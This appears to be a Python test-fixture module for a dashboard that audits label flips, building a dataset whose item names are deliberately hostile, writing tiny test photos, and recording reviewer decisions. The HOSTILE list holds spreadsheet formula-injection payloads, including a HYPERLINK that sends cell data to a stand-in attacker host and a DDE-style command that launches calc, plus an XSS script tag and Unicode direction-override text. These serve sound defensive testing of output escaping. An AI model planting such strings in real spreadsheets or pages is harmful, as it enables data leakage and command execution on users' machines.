"""A catalogue whose names try everything, with photos, and a store of decisions on its flips."""

from __future__ import annotations

import io
import shutil
from pathlib import Path

import numpy as np
from PIL import Image

from dashboard.frames.audit import cells_of
from dashboard.frames.flips import FlipQuery, flips_page
from selfml.decisions import Store
from selfml.run import Run, RunWriter, catalogue_of
from tests.tiny_dataset import Shop, open_shop

HOSTILE = (
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"a, b\")",
    "-2+3|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\u202eمعطف \u200fأحمر",
    "n" * 500,
    "<script>alert('$image')</script>&amp; \"",
)  # fmt: skip


def hostile_shop(tiny_run: Path, folder: Path) -> Shop:
    """The odd dataset of the tiny run with hostile attributes and a photo for most rows."""
    renamed = shutil.copytree(tiny_run, folder / "renamed")
    attributes = Run(renamed).table("attributes").assign(name=list(HOSTILE))
    RunWriter(renamed).write_table("attributes", attributes)
    shop = open_shop(renamed, folder)
    write_photos(shop)
    return shop


def write_photos(shop: Shop) -> None:
    """A small picture for each image of the run: JPEG, PNG and WebP in turn, whatever its name."""
    for i, name in enumerate(shop.run.table("images")["image_id"]):
        path = shop.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(picture(i))


def picture(i: int) -> bytes:
    """An encoded picture that tells its number by its first pixel."""
    pixels = np.full((4, 6, 3), i, np.uint8)
    buffer = io.BytesIO()
    kind = ("JPEG", "PNG", "WEBP")[i % 3]
    Image.fromarray(pixels).save(buffer, kind, **({"lossless": True} if kind == "WEBP" else {}))
    return buffer.getvalue()


def decided(shop: Shop, folder: Path) -> Store:
    """Four flips that ann accepted, one of them with bob, and one that bob rejected."""
    store = Store(f"sqlite:///{folder / 'decisions.db'}")
    flips = flips_page(shop.run, FlipQuery(split="noisy_train"), 1, 5)
    acts = (
        (flips[:4], "accept", "ann"),
        (flips[1:2], "accept", "bob"),
        (flips[4:], "reject", "bob"),
    )
    for part, decision, who in acts:
        store.decide(catalogue_of(shop.run), cells_of(part), decision, auditor=who, run_id="r")
    return store
